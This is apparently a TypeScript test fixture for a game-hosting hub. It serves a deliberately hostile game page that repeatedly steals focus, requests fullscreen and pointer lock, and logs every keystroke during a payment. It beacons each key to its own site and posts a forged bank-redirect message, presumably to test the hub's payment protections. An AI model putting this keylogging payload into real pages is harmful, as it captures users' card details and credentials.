/** A game seizing the keyboard whenever it can, which reports each received key to its site. */
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { type LocalServer, startLocalServer } from '@playhub/test-kit/local-server'
import { copyContent, temporaryFolder } from '../environment/content.ts'
import { startEnvironment, type TestEnvironment } from '../environment/environment.ts'

export const hostileItemId = 'hostile-gems'

export type HostileEnvironment = TestEnvironment & {
  /** Reports of the games' pages: the start of a payment, keys, and a purchase's outcome. */
  reports: { event: string; detail: unknown }[]
}

/** The game's place: a URL of its own, or a build with or without an origin. */
export type Place = 'at its own address' | 'a build' | 'a build without an origin'

const attack = (siteUrl: string) => `
const report = (event, detail) => navigator.sendBeacon('${siteUrl}/report', JSON.stringify({ event, detail }))
const steal = () => {
  window.focus()
  document.querySelector('input')?.focus()
  // A full screen between mousedown and mouseup would take the click itself.
  if (!isPaying()) return
  document.documentElement.requestFullscreen?.().catch(() => {})
  document.body?.requestPointerLock?.()?.catch?.(() => {})
}
for (const ms of [0, 1, 2, 3, 4, 5]) setInterval(steal, ms)
for (const event of ['blur', 'focusout', 'visibilitychange', 'pagehide', 'freeze', 'message', 'fullscreenchange']) {
  addEventListener(event, steal)
  document.addEventListener(event, steal)
}
for (const event of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'compositionstart', 'paste'])
  addEventListener(event, (typed) => { if (isPaying()) report('key', typed.key ?? typed.data) }, true)`

const createPage = (siteUrl: string, hubUrl: string) => `<!doctype html><title>Gems</title>
<link rel="icon" href="data:,"><script src="${hubUrl}/sdk/v1/playhub.js"></script>
<body><button id="sdk">Buy</button><button id="message">Order</button><input autofocus>
<iframe srcdoc="<input><script>let isStarted = false; const isPaying = () => isStarted; addEventListener('message', () => { isStarted = true });${attack(siteUrl).replaceAll('"', '&quot;')}</script>"></iframe>
<script>
// Keys before the payment are the game's.
let isStarted = false
const isPaying = () => isStarted
const begin = () => { report('begin'); isStarted = true; frames[0].postMessage('', '*') }
Playhub.connect().then(async (hub) => {
  sdk.onclick = () => { begin(); hub.purchase({ itemId: '${hostileItemId}' }) }
  const purchases = hub.player.isGuest ? [] : await hub.getPurchases()
  report('start', { purchased: __playhubStart?.purchased?.status, purchases: purchases.length })
  hub.ready()
})
addEventListener('message', ({ data }) => { if (data.type === 'PAYMENT_RESULT') report('result', data) })
message.onclick = () => {
  begin()
  parent.postMessage({ type: 'ON_BANK', data: { url: '/payments/process/' + orderId } }, '*')
}
</script><script>${attack(siteUrl)}</script>`

/** A hub with this game, under the address `/games/en/hostile/`. */
export async function startHostileGame(place: Place): Promise<HostileEnvironment> {
  const reports: HostileEnvironment['reports'] = []
  let hubUrl = ''
  const site = await startSite(reports, () => createPage(site.url, hubUrl))
  const isBuild = place !== 'at its own address'
  const content = copyContent()
  writeFileSync(join(content.dir, 'projects/hostile.yaml'), describeProject(isBuild ? null : site.url))
  const environment = await startEnvironment((url, gamesUrl) => {
    hubUrl = url
    const isOneOrigin = place === 'a build without an origin'
    return {
      CONTENT_DIR: content.dir,
      ...(isOneOrigin && { GAMES_URL: gamesUrl.replace('localhost', '127.0.0.1') }),
    }
  })
  if (isBuild) {
    const folder = temporaryFolder('hostile')
    writeFileSync(join(folder, 'index.html'), createPage(site.url, hubUrl))
    await environment.runCommand('games', 'publish', 'hostile', folder)
  }
  return {
    ...environment,
    reports,
    close: async () => void (await Promise.all([environment.close(), site.close()])),
  }
}

function startSite(reports: HostileEnvironment['reports'], createPage: () => string): Promise<LocalServer> {
  return startLocalServer(async (request, response) => {
    if (request.method === 'POST') {
      let body = ''
      for await (const part of request) body += part
      reports.push(JSON.parse(body))
      return void response.writeHead(204, { 'access-control-allow-origin': '*' }).end()
    }
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(createPage())
  })
}

const describeProject = (siteUrl: string | null) => `name: { ru: Gems, en: Gems }
${siteUrl ? `origins: [${siteUrl}]\n` : ''}paymentsMethods:
  - provider: stripe
    methods: [card]
  - provider: yookassa
    methods: [card]
game:
${siteUrl ? `  frameUrl: ${siteUrl}/\n` : ''}  framePermissions: [fullscreen, popups, modals, orientation-lock]
items:
  - id: ${hostileItemId}
    title: { ru: Gems, en: Gems }
    price: { RUB: 99, USD: 0.99 }
`
